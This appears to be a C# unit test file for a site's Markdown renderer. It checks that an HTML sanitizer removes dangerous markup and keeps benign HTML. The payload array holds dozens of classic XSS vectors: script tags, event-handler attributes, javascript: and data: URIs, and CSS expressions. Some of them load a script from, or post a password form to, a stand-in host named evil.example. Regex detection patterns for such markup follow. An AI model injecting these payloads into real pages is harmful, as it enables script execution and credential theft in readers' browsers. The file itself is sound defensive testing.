using OkrSite.Core.Render.Html;

namespace OkrSite.Tests.Render.Html;

/// <summary>allowHtml: true lets authors write HTML, and HtmlSanitizer keeps it from running code in a reader's browser.</summary>
public class MarkdownSanitizingTests
{
    private static string Render(string markdown) => new MarkdownRenderer(allowHtml: true).Render(markdown).Html;

    /// <summary>Classic XSS payloads (OWASP's filter evasion cheat sheet and friends); none may leave anything that runs.</summary>
    private static readonly string[] PayloadTexts =
    [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<IMG SRC=\"javascript:alert('XSS');\">",
        "<IMG SRC=JaVaScRiPt:alert('XSS')>",
        "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
        "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
        "<a href=\"javascript:alert(1)\">click</a>",
        "<a href=\" &#14; javascript:alert(1)\">click</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">click</a>",
        "<a href=\"vbscript:msgbox(1)\">click</a>",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<body onload=alert(1)>",
        "<iframe src=\"https://evil.example/\"></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<object data=\"https://evil.example/x.swf\"></object>",
        "<embed src=\"https://evil.example/x.swf\">",
        "<div style=\"background-image: url(javascript:alert(1))\">x</div>",
        "<div style=\"width: expression(alert(1))\">x</div>",
        "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%\">fake login</div>",
        "<style>body { background: url(javascript:alert(1)) }</style>",
        "<link rel=stylesheet href=\"https://evil.example/x.css\">",
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
        "<base href=\"https://evil.example/\">",
        "<form action=\"https://evil.example/\"><input name=password></form>",
        "<button formaction=\"javascript:alert(1)\">x</button>",
        "<details open ontoggle=alert(1)>x</details>",
        "<input autofocus onfocus=alert(1)>",
        "<video><source onerror=alert(1)></video>",
        "<marquee onstart=alert(1)>x</marquee>",
        "<p title=\"</p><script>alert(1)</script>\">x</p>",
        "<!--<script>alert(1)</script>-->",
        "<a href=\"#\" onclick=\"alert(1)\">x</a>",
        "<span onmouseover=alert(1)>hover</span>",
        "<template><script>alert(1)</script></template>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    ];

    public static TheoryData<string> Payloads => new(PayloadTexts);

    [Theory]
    [MemberData(nameof(Payloads))]
    public void A_payload_leaves_nothing_that_runs(string payload)
    {
        var html = Render($"Before\n\n{payload}\n\nAfter with {payload} inline.");

        Assert.DoesNotMatch("(?i)<\\s*(script|iframe|object|embed|style|link|meta|base|form|svg|math|template)\\b", html);
        Assert.DoesNotMatch("(?i)<[^>]*\\son[a-z]+\\s*=", html);
        Assert.DoesNotMatch("(?i)<[^>]*\\s(href|src|action|formaction|data)\\s*=\\s*[\"']?\\s*(javascript|vbscript|data):", html);
        Assert.DoesNotMatch("(?i)<[^>]*\\sstyle\\s*=", html);
        Assert.Contains("Before", html, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("<table><thead><tr><th>KR</th></tr></thead><tbody><tr><td>Win</td></tr></tbody></table>", "<table><thead><tr><th>KR</th></tr></thead><tbody><tr><td>Win</td></tr></tbody></table>")]
    [InlineData("<details><summary>Why</summary>Because.</details>", "<details><summary>Why</summary>Because.</details>")]
    [InlineData("A <span class=\"badge\">new</span> KPI", "<span class=\"badge\">new</span>")]
    [InlineData("<b>bold</b> and <em>em</em> and <code>x</code>", "<b>bold</b> and <em>em</em> and <code>x</code>")]
    [InlineData("<a href=\"https://example.com/x\" title=\"t\">x</a>", "<a href=\"https://example.com/x\" title=\"t\">x</a>")]
    [InlineData("<a href=\"../kpis/churn/\">churn</a>", "<a href=\"../kpis/churn/\">churn</a>")]
    [InlineData("<a href=\"mailto:okr@example.com\">mail</a>", "<a href=\"mailto:okr@example.com\">mail</a>")]
    [InlineData("<img src=\"chart.png\" alt=\"Chart\">", "<img src=\"chart.png\" alt=\"Chart\">")]
    [InlineData("<kbd>Ctrl</kbd><sup>2</sup><sub>x</sub><br>", "<kbd>Ctrl</kbd><sup>2</sup><sub>x</sub><br>")]
    public void Ordinary_html_survives(string markdown, string expected) =>
        Assert.Contains(expected, Render(markdown), StringComparison.Ordinal);

    [Fact]
    public void Markdown_around_html_renders_as_before()
    {
        var html = Render("## Progress\n\n- [x] shipped\n- [ ] **next** <span class=\"note\">soon</span>\n\n| a | b |\n|---|---|\n| 1 | 2 |");

        Assert.Contains("<h3>Progress</h3>", html, StringComparison.Ordinal);
        Assert.Contains("<strong>next</strong>", html, StringComparison.Ordinal);
        Assert.Contains("<span class=\"note\">soon</span>", html, StringComparison.Ordinal);
        Assert.Contains("<td>1</td>", html, StringComparison.Ordinal);
        Assert.Contains("type=\"checkbox\"", html, StringComparison.Ordinal);
    }

    [Fact]
    public void Markdown_without_html_is_not_changed_by_the_sanitizer()
    {
        const string markdown = "# T\n\nText with **bold**, a [link](https://example.com) and `code`.\n\n| a |\n|---|\n| 1 |";

        Assert.Equal(new MarkdownRenderer(allowHtml: false).Render(markdown).Html, Render(markdown));
    }

    [Fact]
    public void Sanitizing_is_deterministic_across_threads()
    {
        var markdown = string.Join("\n\n", PayloadTexts);
        var expected = Render(markdown);

        var results = new string[64];
        Parallel.For(0, results.Length, i => results[i] = Render(markdown));

        Assert.All(results, r => Assert.Equal(expected, r));
    }
}
